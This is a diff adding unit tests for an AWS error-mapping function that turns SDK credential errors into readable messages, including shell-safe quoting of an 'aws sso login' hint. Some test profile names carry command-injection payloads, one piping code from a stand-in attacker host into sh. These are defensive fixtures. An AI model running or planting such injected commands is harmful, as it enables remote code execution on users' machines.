@@ -128,6 +128,67 @@ describe('toAwsError', function () {
     assert.match(e.message, /^Version 3 of image “my-image” was not found\./);
     assert.equal(toAwsError(e, ctx), e);
   });
+
+  const provider = (name: string, message: string) => Object.assign(new Error(message), { name });
+
+  it('reads the missing profile from each of the SDK\'s messages', function () {
+    const messages: [string, string, string][] = [
+      ['CredentialsProviderError', 'Could not resolve credentials using profile: [team ml] in configuration/credentials file(s).', 'team ml'],
+      ['CredentialsProviderError', 'Profile ghost could not be found in shared credentials file.', 'ghost'],
+      ['CredentialsProviderError', 'Profile prod.admin was not found.', 'prod.admin'],
+      ['TokenProviderError', "Profile 'sso-dev' could not be found in shared credentials file.", 'sso-dev'],
+    ];
+    for (const [name, message, profile] of messages) {
+      const e = toAwsError(provider(name, message), { operation: 'ListImages' });
+      assert.equal(e.kind, 'noCredentials', message);
+      assert.ok(e.message.startsWith(`Profile “${profile}” was not found`), e.message);
+    }
+  });
+
+  it('checks the error name before the message: a service error quoting credential hints stays what its name says', function () {
+    for (const message of [
+      'Could not resolve credentials using profile: [x] in configuration/credentials file(s).',
+      'The SSO session has expired. Run aws sso login.',
+      'Could not load credentials from any providers',
+    ]) {
+      const e = toAwsError(service('ValidationException', 400, message), ctx);
+      assert.equal(e.kind, 'validation', message);
+      assert.equal(e.details.ssoLoginProfile, undefined);
+    }
+  });
+
+  it('maps the reported 3,000-dash ValidationException at once, and shows a bounded part of a huge message', function () {
+    const reported = `The profile ${'-'.repeat(3_000)} could`;
+    const t0 = performance.now();
+    const e = toAwsError(service('ValidationException', 400, reported), ctx);
+    assert.ok(performance.now() - t0 < 1_000, 'linear, not seconds');
+    assert.equal(e.kind, 'validation');
+    const huge = toAwsError(service('ValidationException', 400, 'x'.repeat(100_000)), ctx);
+    assert.ok(huge.message.length < 1_200, `${huge.message.length} characters`);
+    assert.equal(huge.details.rawMessage?.length, 100_000, 'the log still gets the whole text');
+  });
+
+  describe('the SSO message quotes the login command (src/aws/shellQuote.ts)', function () {
+    const sso = () => provider('CredentialsProviderError', 'The SSO session associated with this profile has expired. To refresh this SSO session run aws sso login with the corresponding profile.');
+
+    it('a name with spaces or shell metacharacters is single-quoted', function () {
+      assert.match(toAwsError(sso(), { operation: 'ListImages', profile: 'my team' }).message, /Run aws sso login --profile 'my team', then retry\./);
+      const hostile = 'dev; curl https://attacker.example/p | sh #';
+      const e = toAwsError(sso(), { operation: 'ListImages', profile: hostile });
+      assert.ok(e.message.includes(`Run aws sso login --profile '${hostile}', then retry.`), e.message);
+      assert.equal(e.details.ssoLoginProfile, hostile);
+    });
+
+    it('a name that cannot be quoted for every shell is not shown in a command', function () {
+      for (const profile of ["it's", 'dev\ncurl x | sh', 'a$(b)', 'a‘b']) {
+        const e = toAwsError(sso(), { operation: 'ListImages', profile });
+        assert.equal(e.kind, 'expiredCredentials');
+        assert.ok(!e.message.includes('--profile'), e.message);
+        assert.ok(!e.message.includes(profile), e.message);
+        assert.match(e.message, /cannot be pasted into bash, zsh and PowerShell safely/);
+      }
+    });
+  });
 });
 
 describe('paging guards', function () {
